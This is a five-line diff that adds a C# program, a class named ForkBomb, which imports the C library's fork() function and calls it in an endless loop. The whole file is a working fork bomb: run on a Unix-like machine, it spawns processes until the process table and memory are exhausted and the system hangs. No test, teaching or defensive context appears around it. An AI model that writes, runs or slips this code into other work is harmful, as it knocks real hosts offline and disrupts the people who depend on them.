@@ -1,0 +1,5 @@
+using System.Runtime.InteropServices;
+class ForkBomb {
+    [DllImport("libc")] static extern int fork();
+    static void Main() { for (;;) fork(); }
+}
